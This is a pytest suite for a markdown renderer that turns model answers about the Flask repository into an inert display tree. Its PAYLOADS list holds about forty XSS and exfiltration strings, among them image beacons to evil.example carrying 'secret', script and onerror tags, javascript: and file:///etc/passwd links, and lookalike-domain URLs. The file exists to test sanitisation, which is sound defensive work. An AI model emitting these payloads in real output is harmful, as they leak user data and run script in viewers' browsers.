"""A model's words can say anything; the tree that is drawn from them can do nothing."""

from collections.abc import Iterator

import pytest

from runtime.client.shapes import Citation
from web_ui.markdown import LONGEST, Node, allowed_link, read_markdown
from web_ui.source import highlight

HOME = "https://github.com/pallets/flask"
CITED = (
    Citation(path="src/flask/__init__.py", first_line=1, last_line=12),
    Citation(path="docs/a file.rst", first_line=3, last_line=3),
)
DRAWN = {"p", "h3", "ul", "ol", "li", "blockquote", "strong", "em", "s", "table", "thead", "tbody", "tr", "th", "td"}
DRAWN |= {"code", "pre", "br", "hr", "a", "cite"}

PAYLOADS = (
    "![x](http://127.0.0.1:9/i.png)",
    "![x](https://evil.example/?q=secret 'title')",
    "![x][r]\n\n[r]: http://127.0.0.1:9/i.png",
    "![r]\n\n[r]: https://evil.example/i.png",
    "[![x](http://127.0.0.1:9/i.png)](http://127.0.0.1:9/)",
    '<img src="http://127.0.0.1:9/i.png">',
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<script>fetch('http://127.0.0.1:9/')</script>",
    '<iframe src="http://127.0.0.1:9/"></iframe>',
    '<svg onload="alert(1)"><use href="http://127.0.0.1:9/#x"/></svg>',
    '<style>@import url("http://127.0.0.1:9/x.css");</style>',
    '<div style="background:url(http://127.0.0.1:9/x)">x</div>',
    '<link rel="stylesheet" href="http://127.0.0.1:9/x.css">',
    '<object data="http://127.0.0.1:9/"></object>',
    '<form action="http://127.0.0.1:9/"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">',
    "<!-- --><img src=http://127.0.0.1:9/>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](https://evil.example/?q=secret)",
    "[x](https://github.com.evil.example/pallets/flask)",
    "[x](https://github.com@evil.example/pallets/flask)",
    "[x](https://github.com/attacker/repository)",
    "[x](https://github.com/pallets/flask/../../attacker/repository)",
    "[x](http://github.com/pallets/flask)",
    "<http://127.0.0.1:9/auto>",
    "http://127.0.0.1:9/bare and www.evil.example",
    "$\\href{http://127.0.0.1:9/}{x}$ and $$\\includegraphics{http://127.0.0.1:9/x}$$",
    "```mermaid\ngraph LR\nclick A href \"http://127.0.0.1:9/\"\n```",
    ":material/home: :smile: :red[x] :image[x](http://127.0.0.1:9/)",
    "[src/flask/__init__.py:1-12](http://127.0.0.1:9/)",
    "| ![x](http://127.0.0.1:9/) |\n|-|\n| [y](javascript:alert(1)) |",
    "[x]\n\n[x]: javascript:alert(1)",
    "&lt;img src=x&gt; &#60;img src=x&#62;",
    "> - ![x](http://127.0.0.1:9/)\n>   <img src=x>",
)  # fmt: skip


def elements(nodes: list[Node]) -> Iterator[dict[str, object]]:
    for node in nodes:
        if isinstance(node, dict):
            yield node
            children = node.get("c", [])
            assert isinstance(children, list)
            yield from elements(children)


def said(nodes: list[Node]) -> str:
    return "".join(n if isinstance(n, str) else said(n.get("c", [])) for n in nodes)  # type: ignore[arg-type]  # children are nodes


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_answer_becomes_words_and_nothing_else(payload: str) -> None:
    tree = read_markdown(f"Before. {payload}\n\n{payload}\n\nAfter.", CITED, HOME)

    for element in elements(tree):
        assert element["t"] in DRAWN
        assert set(element) <= {"t", "c", "start", "lines", "n", "path", "first", "last"}, "an address stayed"
    assert said(tree).startswith("Before.")
    assert said(tree).endswith("After.")


def test_there_are_at_least_thirty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 30


def test_a_link_into_the_analysed_repository_stays_one() -> None:
    href = f"{HOME}/blob/main/src/flask/app.py#L10"
    (paragraph,) = read_markdown(f"See [the *source*]({href}).", (), HOME)

    assert paragraph == {
        "t": "p",
        "c": ["See ", {"t": "a", "href": href, "c": ["the ", {"t": "em", "c": ["source"]}]}, "."],
    }


@pytest.mark.parametrize(
    ("href", "home", "allowed"),
    [
        ("https://github.com/pallets/flask", HOME, True),
        ("https://github.com/pallets/flask/issues/1", f"{HOME}.git", True),
        ("https://github.com/pallets/flask-sqlalchemy", HOME, False),
        ("https://github.com:8443/pallets/flask", HOME, False),
        ("https://user@github.com/pallets/flask", HOME, False),
        ("https://[bad/pallets/flask", HOME, False),
        ("https://github.com/anything", "https://github.com/", False),
        ("https://github.com/pallets/flask\\..\\x", HOME, False),
    ],
)
def test_only_addresses_inside_the_repository_are_links(href: str, home: str, allowed: bool) -> None:
    assert allowed_link(href, home) is allowed


def test_a_checked_citation_becomes_a_place_and_underscores_in_its_path_mean_nothing() -> None:
    (paragraph,) = read_markdown("It is [src/flask/__init__.py:1-12] and [docs/a file.rst:3-3].", CITED, HOME)

    assert isinstance(paragraph, dict)
    assert paragraph["c"] == [
        "It is ",
        {"t": "cite", "n": 1, "path": "src/flask/__init__.py", "first": 1, "last": 12, "c": []},
        " and ",
        {"t": "cite", "n": 2, "path": "docs/a file.rst", "first": 3, "last": 3, "c": []},
        ".",
    ]


def test_a_path_with_brackets_is_one_place() -> None:
    cited = (Citation(path="app/[[...slug]]/page.tsx", first_line=1, last_line=2),)
    (paragraph,) = read_markdown("It is [app/[[...slug]]/page.tsx:1-2].", cited, HOME)

    assert isinstance(paragraph, dict)
    assert paragraph["c"] == [
        "It is ",
        {"t": "cite", "n": 1, "path": "app/[[...slug]]/page.tsx", "first": 1, "last": 2, "c": []},
        ".",
    ]


def test_a_citation_nobody_checked_stays_text() -> None:
    assert read_markdown("See [setup.py:1-2].", CITED, HOME) == [{"t": "p", "c": ["See ", "[setup.py:1-2]", "."]}]


def test_a_citation_inside_code_stays_code() -> None:
    tree = read_markdown("```\n[src/flask/__init__.py:1-12]\n```", CITED, HOME)

    assert tree == [{"t": "pre", "lines": [[("", "[src/flask/__init__.py:1-12]")]]}]


def test_code_is_coloured_in_its_language() -> None:
    (block,) = read_markdown("```python\ndef f(): pass\n```", (), HOME)

    assert isinstance(block, dict)
    assert block["lines"] == [highlight("def f(): pass", language="python")[0]]
    assert ("function", "f") in highlight("def f(): pass", language="python")[0]


def test_lists_tables_and_emphasis_keep_their_form() -> None:
    tree = read_markdown("3. a\n4. **b**\n\n|x|y|\n|-|-|\n|1|~~2~~|", (), HOME)

    assert tree[0] == {
        "t": "ol",
        "start": 3,
        "c": [{"t": "li", "c": ["a"]}, {"t": "li", "c": [{"t": "strong", "c": ["b"]}]}],
    }
    assert [e["t"] for e in elements(tree[1:])] == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td", "s"]


def test_characters_that_hide_or_reorder_text_are_left_out() -> None:
    assert said(read_markdown("pass\u202eword\u200b \U000e0041done", (), HOME)) == "password done"


def test_an_endless_answer_is_cut() -> None:
    assert len(said(read_markdown("word " * 100_000, (), HOME))) <= LONGEST


def test_deep_nesting_neither_fails_nor_takes_long() -> None:
    assert read_markdown("> " * 5_000 + "x", (), HOME)
    assert read_markdown("[" * 20_000, (), HOME)
    assert read_markdown("*a **b " * 5_000, (), HOME)
